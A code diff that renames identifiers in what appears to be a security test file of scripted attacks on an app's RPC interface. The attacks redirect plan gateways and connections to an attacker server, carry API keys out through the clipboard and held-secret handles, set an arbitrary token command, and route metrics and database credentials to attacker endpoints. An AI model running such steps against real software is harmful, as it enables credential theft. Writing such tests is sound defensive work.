@@ -6,7 +6,7 @@ import {
   type MethodName,
   type PlanView,
 } from '@shared/contract'
-import type { Wanted } from './hostile-calls'
+import type { AttackTarget } from './hostile-calls'
 
 /** The attacker's clipboard text that replaces a secret. */
 export const ownSecret = 'the-attackers-own-0123456789'
@@ -17,13 +17,13 @@ export interface Answer {
 }
 
 /** Environment of the attacks. */
-export interface Attempt {
+export interface AttackContext {
   readonly call: (name: MethodName, input?: unknown) => Promise<Answer>
-  readonly wanted: Wanted
+  readonly wanted: AttackTarget
 }
 
 /** Attacks written by a person. */
-export async function knownWays(attempt: Attempt): Promise<void> {
+export async function knownWays(attempt: AttackContext): Promise<void> {
   await redirectPlans(attempt)
   const evilId = await foreignConnection(attempt)
   await redirectConnections(attempt)
@@ -31,11 +31,11 @@ export async function knownWays(attempt: Attempt): Promise<void> {
   await runProgram(attempt)
   await joinDatabase(attempt)
   await sendMetrics(attempt)
-  await widenMcp(attempt)
+  await grantMcpPermissions(attempt)
   const { call, wanted } = attempt
   await call('connections.save', { name: 'reads-a-file', addresses: {}, caFile: wanted.file })
   await call('app.openLink', { url: `${wanted.serverUrl}/?out` })
-  const [plan] = await listed<PlanView>(call, 'plans.list')
+  const [plan] = await listRows<PlanView>(call, 'plans.list')
   const choice = { toolId: 'claude-code', planId: plan?.id ?? '', modelCode: 'aurora-large' }
   const site = { kind: 'project', folder: wanted.folder }
   await call('tools.preview', { ...choice, site })
@@ -43,15 +43,15 @@ export async function knownWays(attempt: Attempt): Promise<void> {
   await call('doctor.run', { toolId: 'claude-code', site, callId: 'doctor' })
 }
 
-async function listed<T>(call: Attempt['call'], name: MethodName): Promise<T[]> {
+async function listRows<T>(call: AttackContext['call'], name: MethodName): Promise<T[]> {
   const { value } = await call(name)
   return Array.isArray(value) ? value : []
 }
 
 /** Changes the gateway of each plan, and pastes its key again. */
-async function redirectPlans({ call, wanted }: Attempt): Promise<void> {
+async function redirectPlans({ call, wanted }: AttackContext): Promise<void> {
   const gatewayUrl = wanted.serverUrl
-  for (const { id: planId, name, models, keys } of await listed<PlanView>(call, 'plans.list')) {
+  for (const { id: planId, name, models, keys } of await listRows<PlanView>(call, 'plans.list')) {
     await call('plans.update', { planId, name, gatewayUrl, models })
     await call('plans.check', { planId })
     for (const { id: keyId } of keys) {
@@ -61,10 +61,10 @@ async function redirectPlans({ call, wanted }: Attempt): Promise<void> {
         'connections.takeSecretFromClipboard',
         'resources.takeSecret',
       ] as const) {
-        const pendingId = pendingIn(await call(take))
+        const pendingId = getPendingId(await call(take))
         await call('plans.checkNew', { gatewayUrl, pendingId })
-        const added = await call('plans.add', { name: `copy-${take.length}`, gatewayUrl, models: [], pendingId })
-        await call('plans.check', { planId: idIn(added) })
+        const addedPlan = await call('plans.add', { name: `copy-${take.length}`, gatewayUrl, models: [], pendingId })
+        await call('plans.check', { planId: getAnswerId(addedPlan) })
       }
     }
   }
@@ -74,39 +74,39 @@ const getField = (answer: Answer, name: string): string => {
   const { value } = answer
   return typeof value === 'object' && value !== null ? String(Reflect.get(value, name) ?? 'none') : 'none'
 }
-const pendingIn = (answer: Answer): string => getField(answer, 'pendingId')
-const idIn = (answer: Answer): string => getField(answer, 'id')
+const getPendingId = (answer: Answer): string => getField(answer, 'pendingId')
+const getAnswerId = (answer: Answer): string => getField(answer, 'id')
 
 const everyAddress = (url: string): Record<string, string> =>
   Object.fromEntries(addressKeys.map((key) => [key, key === 'registryHost' ? new URL(url).host : url]))
 
 /** A connection with the attacker's addresses and secret. */
-async function foreignConnection({ call, wanted }: Attempt): Promise<string> {
+async function foreignConnection({ call, wanted }: AttackContext): Promise<string> {
   await call('app.copyText', { text: ownSecret })
-  const pendingId = pendingIn(await call('connections.takeSecretFromClipboard', { kind: 'pasted' }))
+  const pendingId = getPendingId(await call('connections.takeSecretFromClipboard', { kind: 'pasted' }))
   const addresses = everyAddress(wanted.serverUrl)
-  const saved = await call('connections.save', {
+  const savedConnection = await call('connections.save', {
     name: 'theirs',
     addresses,
     tokenSource: { kind: 'pasted' },
     pendingId,
   })
-  const connection: unknown = Reflect.get(Object(saved.value), 'connection')
+  const connection: unknown = Reflect.get(Object(savedConnection.value), 'connection')
   return String(Reflect.get(Object(connection), 'id'))
 }
 
 /** Changes the addresses of each connection, with its secret, another secret, and another token server. */
-async function redirectConnections({ call, wanted }: Attempt): Promise<void> {
+async function redirectConnections({ call, wanted }: AttackContext): Promise<void> {
   const addresses = everyAddress(wanted.serverUrl)
-  for (const { id, name, tokenSource } of await listed<ConnectionView>(call, 'connections.list')) {
+  for (const { id, name, tokenSource } of await listRows<ConnectionView>(call, 'connections.list')) {
     if (name === 'theirs') continue
     await call('app.copyText', { text: ownSecret })
-    const pendingId = pendingIn(await call('connections.takeSecretFromClipboard', {}))
-    const moved =
+    const pendingId = getPendingId(await call('connections.takeSecretFromClipboard', {}))
+    const movedSource =
       tokenSource?.kind === 'client-credentials' ? { ...tokenSource, tokenUrl: wanted.serverUrl } : tokenSource
     const changes = [
       { addresses, tokenSource },
-      { addresses, tokenSource: moved },
+      { addresses, tokenSource: movedSource },
       { addresses, tokenSource, pendingId },
     ]
     for (const change of changes) {
@@ -118,18 +118,22 @@ async function redirectConnections({ call, wanted }: Attempt): Promise<void> {
 }
 
 /** Sends a secret of a response to the attacker's connection. */
-async function carryHeldSecret({ call }: Attempt, connectionId: string): Promise<void> {
-  const lab = (await listed<ConnectionView>(call, 'connections.list')).find(({ name }) => name === 'Lab')
+async function carryHeldSecret({ call }: AttackContext, connectionId: string): Promise<void> {
+  const lab = (await listRows<ConnectionView>(call, 'connections.list')).find(({ name }) => name === 'Lab')
   const operation = 'aip.apiKeys.create'
-  const made = await call('resources.call', { connectionId: lab?.id ?? '', operation, body: { name: 'stolen' } })
-  const secrets: unknown = Reflect.get(Object(made.value), 'secrets')
+  const createResult = await call('resources.call', {
+    connectionId: lab?.id ?? '',
+    operation,
+    body: { name: 'stolen' },
+  })
+  const secrets: unknown = Reflect.get(Object(createResult.value), 'secrets')
   const [held]: unknown[] = Array.isArray(secrets) ? secrets : []
   const handle = String(Reflect.get(Object(held), 'handle'))
   await call('resources.call', { connectionId, operation, body: { name: { $held: handle } } })
   await call('resources.useForInference', { connectionId, of: { handle } })
   await call('resources.keepSecret', { handle, connectionId, kind: 'platformApiKey', name: 'carried' })
   await call('resources.copySecret', { handle })
-  const pendingId = pendingIn(await call('resources.takeSecret'))
+  const pendingId = getPendingId(await call('resources.takeSecret'))
   await call('resources.call', { connectionId, operation, body: { name: { $pending: pendingId } } })
   await call('playground.keepApiKey', { connectionId, pendingId })
   const target = { kind: 'platform', connectionId, credential: 'apiKey', modelCode: 'm' }
@@ -137,43 +141,43 @@ async function carryHeldSecret({ call }: Attempt, connectionId: string): Promise
 }
 
 /** Sets a token command for a connection. */
-async function runProgram({ call, wanted }: Attempt): Promise<void> {
+async function runProgram({ call, wanted }: AttackContext): Promise<void> {
   const tokenSource = { kind: 'command', command: wanted.command }
   const addresses = everyAddress(wanted.serverUrl)
   await call('connections.save', { name: 'runs', addresses, tokenSource })
-  for (const { id } of await listed<ConnectionView>(call, 'connections.list')) {
+  for (const { id } of await listRows<ConnectionView>(call, 'connections.list')) {
     await call('connections.save', { id, name: `runs-${id.slice(0, 8)}`, addresses, tokenSource })
     await call('connections.test', { id, part: 'token', callId: `run-${id}` })
   }
 }
 
 /** Uses each key of a plan as the password of the attacker's database. */
-async function joinDatabase({ call, wanted }: Attempt): Promise<void> {
-  for (const { id: planId, keys } of await listed<PlanView>(call, 'plans.list')) {
+async function joinDatabase({ call, wanted }: AttackContext): Promise<void> {
+  for (const { id: planId, keys } of await listRows<PlanView>(call, 'plans.list')) {
     for (const { id: keyId } of keys) {
       await call('plans.copyKey', { planId, keyId })
-      const pendingId = pendingIn(await call('connections.takeSecretFromClipboard', { kind: 'pasted' }))
+      const pendingId = getPendingId(await call('connections.takeSecretFromClipboard', { kind: 'pasted' }))
       const names = { spaceName: 'theirs', personName: 'me', address: wanted.databaseUrl }
       await call('team.create', { ...names, pendingId })
     }
   }
   await call('app.copyText', { text: ownSecret })
-  const pendingId = pendingIn(await call('connections.takeSecretFromClipboard', { kind: 'pasted' }))
+  const pendingId = getPendingId(await call('connections.takeSecretFromClipboard', { kind: 'pasted' }))
   await call('team.create', { spaceName: 'ours', personName: 'me', address: wanted.databaseUrl, pendingId })
 }
 
 /** Sets the attacker's collector for metrics. */
-async function sendMetrics({ call, wanted }: Attempt): Promise<void> {
+async function sendMetrics({ call, wanted }: AttackContext): Promise<void> {
   await call('metrics.setOtlp', { endpoint: wanted.serverUrl, sendsSpans: true })
   await call('app.copyText', { text: ownSecret })
-  const pendingId = pendingIn(await call('metrics.takeSecret'))
+  const pendingId = getPendingId(await call('metrics.takeSecret'))
   await call('metrics.setOtlp', {
     ...{ endpoint: `${wanted.serverUrl}/theirs`, auth: { kind: 'bearer' }, sendsSpans: true, pendingId },
   })
 }
 
 /** Allows paid and writing MCP calls, and copies an MCP server with its values to another tool. */
-async function widenMcp({ call }: Attempt): Promise<void> {
+async function grantMcpPermissions({ call }: AttackContext): Promise<void> {
   for (const permission of McpPermission.options)
     await call('mcp.setPermission', { toolId: 'claude-code', permission, isOn: true })
   await call('mcp.setRecordsArguments', { isOn: true })
